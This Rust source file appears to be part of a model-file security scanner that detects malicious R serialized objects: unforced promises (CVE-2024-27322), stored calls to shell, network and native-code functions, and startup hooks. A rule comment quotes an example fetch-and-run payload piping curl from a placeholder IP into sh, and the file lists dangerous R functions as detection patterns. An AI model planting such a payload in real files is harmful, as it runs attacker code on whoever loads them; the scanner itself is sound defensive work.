//! What an R object graph would do: promises that evaluate when touched, calls kept for later, hooks R runs itself.
//!
//! Source: CVE-2024-27322 (`readRDS` keeps unforced promises), *R Internals* §1.8, `?Startup`. Linear in the graph.

use super::graph::{Graph, Node, OTHER, Pair, PairKind};
use crate::Scan;
use crate::text::printable;
use bartizan_core::{Confidence, Finding, Severity, atlas, cwe, owasp_llm, owasp_ml, rule};

rule! {
    /// ## What it finds
    /// A promise that has not been evaluated, stored as a value in an R object.
    /// ## Why it matters
    /// R evaluates a promise the moment its value is looked at. `readRDS` and `load` before R 4.4.0 bring promises back
    /// to life (CVE-2024-27322), so the expression in it runs when the loaded object is printed, assigned or plotted.
    /// `saveRDS` never writes a bare one.
    /// ## Example
    /// A promise without value whose expression is `system("curl http://203.0.113.7/i | sh")`.
    /// ## How to fix
    /// Do not load the file. Use R 4.4.0 or newer, and store models in a format without expressions.
    /// ## References
    /// - <https://nvd.nist.gov/vuln/detail/CVE-2024-27322>
    pub const R_PROMISE: Rule = Rule {
        id: "model/r-promise",
        title: "an R promise that runs code when the object is touched",
        severity: Severity::High,
        remedy: "Do not load the file; use R 4.4.0 or newer, and store models in a format without expressions.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(502), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// A stored call or function of an R object that starts processes, loads native code, downloads or evaluates text.
    /// ## Why it matters
    /// Fitted models keep calls and functions, and `update`, `predict` and `print` evaluate them. A call of `system`
    /// in a model is no part of any fit.
    /// ## Example
    /// A `predict` function stored in the model that calls `system("id")`.
    /// ## How to fix
    /// Read the expression before using the object; refit the model from data if it is not yours.
    /// ## References
    /// - <https://cran.r-project.org/doc/manuals/r-release/R-ints.html#Serialization-Formats>
    pub const R_CODE_CALL: Rule = Rule {
        id: "model/r-code-call",
        title: "a dangerous call stored in an R object",
        severity: Severity::High,
        remedy: "Read the expression before using the object; refit the model from data if it is not yours.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(94), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// A workspace that defines a function R calls by itself: `.First`, `.Last`, `.First.sys` or `.Last.sys`.
    /// ## Why it matters
    /// R restores `.RData` from the working directory when it starts and then calls `.First()`, before a user types
    /// anything.
    /// ## Example
    /// `save(.First, model, file = ".RData")`
    /// ## How to fix
    /// Start R with `--no-restore`, load the workspace into a new environment, and remove the function.
    /// ## References
    /// - <https://stat.ethz.ch/R-manual/R-devel/library/base/html/Startup.html>
    pub const R_STARTUP_HOOK: Rule = Rule {
        id: "model/r-startup-hook",
        title: "a function R runs by itself at start or exit",
        severity: Severity::High,
        remedy: "Start R with --no-restore, load into a new environment, and remove the function.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(94), owasp_ml("ML06")],
    };
}

/// How dangerous a call of an R function is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Danger {
    /// Fetches, deletes or changes the environment.
    Reaches,
    /// Runs commands, native code or built text.
    Runs,
}

/// Functions of base R and well-known packages that reach outside the computation.
const FUNCTIONS: &[(&str, Danger, &str)] = &[
    ("system", Danger::Runs, "runs a shell command"),
    ("system2", Danger::Runs, "runs a command"),
    ("shell", Danger::Runs, "runs a shell command"),
    ("shell.exec", Danger::Runs, "opens a file with its program"),
    ("pipe", Danger::Runs, "runs a shell command"),
    ("fifo", Danger::Reaches, "opens a named pipe"),
    ("dyn.load", Danger::Runs, "loads a native library"),
    ("library.dynam", Danger::Runs, "loads a native library"),
    ("exec_wait", Danger::Runs, "runs a command"),
    ("exec_background", Danger::Runs, "runs a command"),
    ("exec_internal", Danger::Runs, "runs a command"),
    ("py_run_string", Danger::Runs, "runs Python code"),
    ("py_run_file", Danger::Runs, "runs Python code"),
    ("py_eval", Danger::Runs, "runs Python code"),
    ("source_python", Danger::Runs, "runs Python code"),
    ("sourceCpp", Danger::Runs, "compiles and loads native code"),
    ("cppFunction", Danger::Runs, "compiles and loads native code"),
    ("source", Danger::Reaches, "runs an R script"),
    ("sys.source", Danger::Reaches, "runs an R script"),
    ("source_url", Danger::Runs, "runs an R script from the network"),
    ("source_gist", Danger::Runs, "runs an R script from the network"),
    ("download.file", Danger::Reaches, "downloads a file"),
    ("curl_download", Danger::Reaches, "downloads a file"),
    ("curl_fetch_memory", Danger::Reaches, "downloads data"),
    ("url", Danger::Reaches, "opens a network connection"),
    ("socketConnection", Danger::Reaches, "opens a network connection"),
    ("make.socket", Danger::Reaches, "opens a network connection"),
    ("socketSelect", Danger::Reaches, "waits on a network connection"),
    ("serverSocket", Danger::Reaches, "listens on the network"),
    ("install.packages", Danger::Reaches, "installs packages"),
    ("install_github", Danger::Runs, "installs a package from a repository"),
    ("install_url", Danger::Runs, "installs a package from the network"),
    ("unlink", Danger::Reaches, "deletes files"),
    ("file.remove", Danger::Reaches, "deletes files"),
    ("Sys.setenv", Danger::Reaches, "changes the environment"),
];

/// Names R calls by itself when a workspace defines them.
const HOOKS: &[&str] = &[".First", ".Last", ".First.sys", ".Last.sys"];

/// Longest expression shown, in characters.
const SHOWN: usize = 160;

/// Reports what `graph` would do.
pub(super) fn judge(graph: &Graph, is_workspace: bool, scan: &mut Scan<'_>) {
    let in_promise = below(graph, |pair| pair.kind == PairKind::Promise);
    let in_closure = below(graph, |pair| pair.kind == PairKind::Closure);
    for (index, node) in graph.nodes.iter().enumerate() {
        let Node::Pair(pair) = node else { continue };
        match pair.kind {
            PairKind::Promise => promise(graph, pair, scan),
            PairKind::Call if in_promise.get(index) == Some(&false) => {
                call(graph, index as u32, pair, in_closure.get(index) == Some(&true), scan);
            }
            _ => {}
        }
    }
    if is_workspace {
        hooks(graph, scan);
    }
}

/// Which nodes hang below a pair that `roots` picks. Each node is entered once.
fn below(graph: &Graph, roots: impl Fn(&Pair) -> bool) -> Vec<bool> {
    let mut marked = vec![false; graph.nodes.len()];
    let mut waiting = Vec::new();
    for node in &graph.nodes {
        let Node::Pair(pair) = node else { continue };
        if !roots(pair) {
            continue;
        }
        waiting.extend([pair.car, pair.cdr]);
        while let Some(next) = waiting.pop() {
            let Some(mark) = marked.get_mut(next as usize).filter(|mark| !**mark && next != OTHER) else {
                continue;
            };
            *mark = true;
            match graph.node(next) {
                Node::Pair(pair) => waiting.extend([pair.car, pair.cdr]),
                Node::Items { first } | Node::Code { first } => waiting.push(first),
                _ => {}
            }
        }
    }
    marked
}

fn promise(graph: &Graph, pair: &Pair, scan: &mut Scan<'_>) {
    if !matches!(graph.node(pair.car), Node::Unbound) {
        return;
    }
    let expression = show(graph, pair.cdr);
    // `x`, `5`: looking it up runs nothing.
    let runs = matches!(graph.node(pair.cdr), Node::Code { .. } | Node::Pair(_));
    let mut worst: Option<(Danger, &str)> = None;
    let mut waiting = vec![pair.cdr];
    // Symbols that arrive as arguments of `do.call` and the like count as well: nothing of it belongs in a promise.
    let mut budget = graph.nodes.len();
    while let (Some(next), true) = (waiting.pop(), budget > 0) {
        budget = budget.saturating_sub(1);
        match graph.node(next) {
            Node::Pair(inner) => {
                if inner.kind == PairKind::Call && is_eval_of_text(graph, &inner) {
                    worst = worst.max(Some((Danger::Runs, "evaluates text as code")));
                }
                waiting.extend([inner.car, inner.cdr]);
            }
            Node::Items { first } | Node::Code { first } => waiting.push(first),
            Node::Symbol(name) | Node::Builtin(name) | Node::Text(name) => {
                let name = graph.text(name);
                let known = FUNCTIONS.iter().find(|(function, ..)| *function == name);
                worst = worst.max(known.map(|(_, danger, what)| (*danger, *what)));
            }
            _ => {}
        }
    }
    let (severity, confidence, message) = match worst {
        Some((_, what)) => (
            Severity::Critical,
            Confidence::High,
            format!("touching the loaded object evaluates `{expression}`, which {what}"),
        ),
        None if pair.in_frame && !runs => return,
        None if pair.in_frame => (
            Severity::Low,
            Confidence::Medium,
            format!("a saved environment holds a promise that evaluates `{expression}` when it is used"),
        ),
        None => (
            Severity::High,
            Confidence::High,
            format!(
                "touching the loaded object evaluates `{expression}`; R itself never writes a bare promise"
            ),
        ),
    };
    scan.report(
        Finding::new(&R_PROMISE, message)
            .severity(severity)
            .confidence(confidence)
            .at(pair.offset as u64)
            .evidence(expression),
    );
}

fn call(graph: &Graph, index: u32, pair: &Pair, in_closure: bool, scan: &mut Scan<'_>) {
    let evaluates = is_eval_of_text(graph, pair);
    let name = function_name(graph, pair.car);
    let known = FUNCTIONS.iter().find(|(function, ..)| Some(*function) == name);
    let (danger, what) = match known {
        Some((_, danger, what)) => (*danger, *what),
        None if evaluates => (Danger::Runs, "evaluates text as code"),
        None => return,
    };
    let shown = show(graph, index);
    let reaches_network =
        ["http://", "https://", "ftp://", "\\\\"].iter().any(|scheme| shown.contains(scheme));
    let severity = match danger {
        // Ordinary R code builds calls from text now and then.
        Danger::Runs if evaluates && in_closure && !runs_in_text(graph, pair) => Severity::Medium,
        Danger::Runs => Severity::High,
        Danger::Reaches if reaches_network => Severity::High,
        Danger::Reaches => Severity::Medium,
    };
    let where_from = if in_closure { "a function stored in the object" } else { "the object" };
    let message = format!("{where_from} calls `{shown}`, which {what}");
    scan.report(
        Finding::new(&R_CODE_CALL, message).severity(severity).at(pair.offset as u64).evidence(shown),
    );
}

fn hooks(graph: &Graph, scan: &mut Scan<'_>) {
    let mut next = graph.root;
    let mut budget = graph.nodes.len();
    while let (Node::Pair(cell), true) = (graph.node(next), budget > 0) {
        budget = budget.saturating_sub(1);
        let value = graph.node(cell.car);
        if let Node::Symbol(name) = graph.node(cell.tag)
            && let Some(hook) = HOOKS.iter().find(|hook| **hook == graph.text(name))
            && matches!(value, Node::Pair(Pair { kind: PairKind::Closure, .. }))
        {
            let message = format!("R calls the function `{hook}` of this workspace by itself");
            scan.report(
                Finding::new(&R_STARTUP_HOOK, message).at(cell.offset as u64).evidence(show(graph, cell.car)),
            );
        }
        next = cell.cdr;
    }
}

/// The function a call names: a symbol, or the right side of `pkg::name`.
fn function_name(graph: &Graph, function: u32) -> Option<&str> {
    match graph.node(function) {
        Node::Symbol(name) | Node::Builtin(name) => Some(graph.text(name)),
        Node::Pair(Pair { kind: PairKind::Call, car, cdr, .. }) => {
            let Node::Symbol(operator) = graph.node(car) else { return None };
            if !matches!(graph.text(operator), "::" | ":::") {
                return None;
            }
            let Node::Pair(package) = graph.node(cdr) else { return None };
            let Node::Pair(name) = graph.node(package.cdr) else { return None };
            match graph.node(name.car) {
                Node::Symbol(name) | Node::Text(name) => Some(graph.text(name)),
                _ => None,
            }
        }
        _ => None,
    }
}

/// Whether a text in the arguments of `pair` calls a function that runs commands or native code.
fn runs_in_text(graph: &Graph, pair: &Pair) -> bool {
    let mut waiting = vec![pair.cdr];
    let mut budget = MOST_ARGUMENTS;
    while let (Some(next), true) = (waiting.pop(), budget > 0) {
        budget = budget.saturating_sub(1);
        match graph.node(next) {
            Node::Pair(inner) => waiting.extend([inner.car, inner.cdr]),
            Node::Items { first } => waiting.push(first),
            Node::Text(text) if calls_by_name(graph.text(text)) => return true,
            _ => {}
        }
    }
    false
}

/// Whether R source calls one of [`FUNCTIONS`] that run commands, native code or other languages.
fn calls_by_name(source: &str) -> bool {
    let is_part = |letter: char| letter.is_alphanumeric() || matches!(letter, '.' | '_');
    source.match_indices('(').any(|(at, _)| {
        let before = source.get(..at).unwrap_or_default().trim_end();
        let name = before.rsplit(|letter| !is_part(letter)).next().unwrap_or_default();
        FUNCTIONS.iter().any(|(function, danger, _)| *danger == Danger::Runs && *function == name)
    })
}

/// Nodes of the arguments of one call that are looked at for source.
const MOST_ARGUMENTS: usize = 256;

/// `eval(parse(text = …))` and its relatives.
fn is_eval_of_text(graph: &Graph, pair: &Pair) -> bool {
    if !matches!(function_name(graph, pair.car), Some("eval" | "evalq" | "eval.parent" | "source")) {
        return false;
    }
    let Node::Pair(first) = graph.node(pair.cdr) else { return false };
    match graph.node(first.car) {
        Node::Pair(inner) if inner.kind == PairKind::Call => {
            matches!(
                function_name(graph, inner.car),
                Some("parse" | "str2lang" | "str2expression" | "textConnection")
            )
        }
        _ => false,
    }
}

/// The expression at `index` as R would write it, shortened.
fn show(graph: &Graph, index: u32) -> String {
    /// What is still to be written.
    enum Piece {
        Node(u32, u32),
        Arguments(u32, u32, bool),
        Literal(&'static str),
    }
    /// Deepest expression shown.
    const DEPTH: u32 = 8;
    let mut shown = String::new();
    let mut waiting = vec![Piece::Node(index, 0)];
    while let Some(piece) = waiting.pop() {
        if shown.chars().count() > SHOWN {
            shown.push('…');
            break;
        }
        match piece {
            Piece::Literal(text) => shown.push_str(text),
            Piece::Node(index, depth) => match graph.node(index) {
                Node::Symbol(name) | Node::Builtin(name) => shown.push_str(graph.text(name)),
                Node::Text(text) => {
                    shown.push('"');
                    shown.push_str(graph.text(text));
                    shown.push('"');
                }
                Node::Pair(_) | Node::Items { .. } | Node::Code { .. } if depth > DEPTH => shown.push('…'),
                Node::Pair(pair) => match pair.kind {
                    PairKind::Closure => {
                        waiting.push(Piece::Node(pair.cdr, depth.saturating_add(1)));
                        shown.push_str("function(…) ");
                    }
                    PairKind::Promise => shown.push_str("<promise>"),
                    PairKind::Call => {
                        waiting.push(Piece::Literal(")"));
                        waiting.push(Piece::Arguments(pair.cdr, depth.saturating_add(1), true));
                        waiting.push(Piece::Literal("("));
                        waiting.push(Piece::Node(pair.car, depth.saturating_add(1)));
                    }
                    PairKind::List | PairKind::Item => {
                        waiting.push(Piece::Literal(")"));
                        waiting.push(Piece::Arguments(index, depth.saturating_add(1), true));
                        waiting.push(Piece::Literal("list("));
                    }
                },
                // The first constant of byte code is the expression it was compiled from.
                Node::Items { first } | Node::Code { first } => match graph.node(first) {
                    Node::Pair(pair) => waiting.push(Piece::Node(pair.car, depth.saturating_add(1))),
                    _ => shown.push('…'),
                },
                Node::Unbound | Node::Environment | Node::Other => shown.push('…'),
            },
            Piece::Arguments(index, depth, is_first) => {
                let Node::Pair(cell) = graph.node(index) else { continue };
                if !is_first {
                    shown.push_str(", ");
                }
                if let Node::Symbol(name) = graph.node(cell.tag) {
                    shown.push_str(graph.text(name));
                    shown.push_str(" = ");
                }
                waiting.push(Piece::Arguments(cell.cdr, depth, false));
                waiting.push(Piece::Node(cell.car, depth));
            }
        }
    }
    shown
}

/// Judges text where an object graph should be: R source in front of which only a header was put.
pub(super) fn judge_text(bytes: &[u8], base: usize, scan: &mut Scan<'_>) {
    for (offset, text) in printable::ascii_runs(bytes) {
        for (function, danger, what) in FUNCTIONS {
            let Some(at) = call_in(text, function) else { continue };
            let severity = if *danger == Danger::Runs { Severity::High } else { Severity::Medium };
            let message = format!("text in the object calls `{function}`, which {what}");
            text_finding(message, severity, text, at, base.saturating_add(offset), scan);
        }
        let evaluated = call_in(text, "eval").filter(|&at| {
            text.get(at..).is_some_and(|rest| rest.contains("parse(") || rest.contains("str2lang("))
        });
        if let Some(at) = evaluated {
            let message =
                "text in the object calls `eval(parse(…))`, which evaluates text as code".to_owned();
            text_finding(message, Severity::High, text, at, base.saturating_add(offset), scan);
        }
    }
}

fn text_finding(
    message: String,
    severity: Severity,
    text: &str,
    at: usize,
    offset: usize,
    scan: &mut Scan<'_>,
) {
    scan.report(
        Finding::new(&R_CODE_CALL, message)
            .severity(severity)
            .confidence(Confidence::Medium)
            .at(offset.saturating_add(at) as u64)
            .evidence(text.get(at..).unwrap_or_default()),
    );
}

/// Where `text` calls `function` with a quoted or computed argument; a comment does not count.
fn call_in(text: &str, function: &str) -> Option<usize> {
    text.match_indices(function).map(|(at, _)| at).find(|&at| {
        let before = text.get(..at).unwrap_or_default();
        let line = before.rsplit('\n').next().unwrap_or_default();
        let after = text.get(at.saturating_add(function.len())..).unwrap_or_default();
        let is_name = before.ends_with(|c: char| c.is_alphanumeric() || c == '.' || c == '_');
        let arguments = after.strip_prefix('(').map(str::trim_start).unwrap_or_default();
        !is_name && !line.contains('#') && !arguments.is_empty() && !arguments.starts_with(')')
    })
}
